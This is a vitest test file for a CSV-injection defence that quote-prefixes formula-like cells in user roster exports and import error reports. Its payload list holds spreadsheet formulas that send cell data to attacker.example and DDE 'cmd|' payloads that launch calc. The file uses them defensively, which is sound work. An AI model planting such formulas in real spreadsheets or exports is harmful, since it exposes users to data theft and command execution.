import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../admin/ui/csv-cell.js';
import { cliPrincipal } from '../cli/cli-context.js';
import { exportUsers, importFile } from '../cli/import-export.js';
import { createTestApp, type TestApp } from '../testing/test-app.js';
import { testDialects } from '../testing/test-db.js';
import { fromSpreadsheetSafe, spreadsheetSafe } from './csv-safe.js';

// Formula payloads of the OWASP CSV-injection page and the review (L1), with variants.
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?x="&A2,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝HYPERLINK("http://attacker.example")',
  "'=already-quoted",
  "''+twice",
];
const PLAIN = ['Ada', "O'Brien", 'a=b', 'x+y', 'co-op', 'ada@example.com', "'quoted text", ''];

describe('CSV injection rule (L1)', () => {
  it('should prefix formula-like cells with a quote and leave other text alone', () => {
    for (const value of FORMULAS) expect(spreadsheetSafe(value), value).toBe(`'${value}`);
    for (const value of PLAIN) expect(spreadsheetSafe(value), value).toBe(value);
  });

  it('should undo exactly what it added, so an export imports as it was', () => {
    for (const value of [...FORMULAS, ...PLAIN]) expect(fromSpreadsheetSafe(spreadsheetSafe(value)), value).toBe(value);
  });

  it("should be the rule of the admin page's error report too", () => {
    for (const value of [...FORMULAS, ...PLAIN]) expect(csvCell(value), value).toBe(`"${spreadsheetSafe(value).replaceAll('"', '""')}"`);
  });
});

class Collect extends Writable {
  text = '';
  override _write(chunk: Buffer, _encoding: string, done: () => void): void {
    this.text += chunk.toString('utf8');
    done();
  }
}

describe.each(testDialects)('roster export and import error reports neutralise formulas ($name)', (dialect) => {
  let t: TestApp;
  let dir: string;
  beforeAll(async () => {
    if (!dialect.available) return;
    t = await createTestApp(dialect);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'roster-csv-'));
  });
  afterAll(async () => {
    await t?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it.skipIf(!dialect.available)(
    'should write formula cells with a leading quote, and import the export back to the same values',
    async () => {
      const { tenantId, key } = await t.tenantWithKey();
      // Names with markup are refused by default (names.prohibitedCharacters); a tenant that allows them
      // must still get an export a spreadsheet cannot run.
      const allow = await t.request(key, { method: 'PATCH', url: '/v1/settings', payload: { names: { prohibitedCharacters: '' } } });
      expect(allow.statusCode).toBe(200);
      const people = [
        { username: 'formula1', givenName: FORMULAS[0], familyName: FORMULAS[1], displayName: FORMULAS[3], phone: '+33612345678' },
        { username: 'formula2', givenName: '-1+1', familyName: '@Mention', position: '  =cmd', nickname: "'=kept" },
      ];
      for (const payload of people) expect((await t.request(key, { method: 'POST', url: '/v1/users', payload })).statusCode).toBe(201);

      const out = new Collect();
      await exportUsers(t.core, { tenantId, principal: cliPrincipal, requestId: 'test' }, 'csv', out);
      const rows = parse(out.text, { columns: true }) as Array<Record<string, string>>;
      const formula1 = rows.find((r) => r.username === 'formula1');
      expect(formula1).toMatchObject({
        givenName: `'${FORMULAS[0]}`,
        familyName: `'${FORMULAS[1]}`,
        displayName: `'${FORMULAS[3]}`,
        phone: "'+33612345678",
      });
      expect(rows.find((r) => r.username === 'formula2')).toMatchObject({
        givenName: "'-1+1",
        familyName: "'@Mention",
        position: "'=cmd",
        nickname: "''=kept",
      });
      // No cell of the file starts a formula.
      for (const row of rows) for (const cell of Object.values(row)) expect(/^\s*[=+\-@＝]|^[\t\r]/.test(cell), cell).toBe(false);

      const file = path.join(dir, `export-${dialect.name}.csv`);
      fs.writeFileSync(file, out.text);
      const other = await t.tenantWithKey();
      const allowOther = await t.request(other.key, {
        method: 'PATCH',
        url: '/v1/settings',
        payload: { names: { prohibitedCharacters: '' } },
      });
      expect(allowOther.statusCode).toBe(200);
      const progress = await importFile(t.core, { tenantId: other.tenantId, principal: cliPrincipal, requestId: 'test' }, file, {
        batchSize: 100,
      });
      expect(progress).toMatchObject({ created: 2, failed: 0 });
      const back = (await t.request(other.key, { method: 'GET', url: '/v1/users?limit=10' })).json().data as Array<Record<string, unknown>>;
      expect(back.find((u) => u.username === 'formula1')).toMatchObject({
        givenName: FORMULAS[0],
        familyName: FORMULAS[1],
        displayName: FORMULAS[3],
        phone: '+33612345678',
      });
      expect(back.find((u) => u.username === 'formula2')).toMatchObject({ givenName: '-1+1', familyName: '@Mention', nickname: "'=kept" });
    },
  );

  it.skipIf(!dialect.available)('should neutralise column names and messages in the error report', async () => {
    const { tenantId } = await t.tenantWithKey();
    const file = path.join(dir, `bad-${dialect.name}.csv`);
    fs.writeFileSync(file, 'email,"=HYPERLINK(""http://attacker.example"")",@cmd\nbad-address,x,y\n');
    const report = path.join(dir, `errors-${dialect.name}.csv`);
    await importFile(t.core, { tenantId, principal: cliPrincipal, requestId: 'test' }, file, { batchSize: 100, errors: report });
    const rows = parse(fs.readFileSync(report, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) for (const cell of Object.values(row)) expect(/^\s*[=+\-@＝]|^[\t\r]/.test(cell), cell).toBe(false);
    expect(rows.some((r) => r.field?.startsWith("'="))).toBe(true);
  });
});
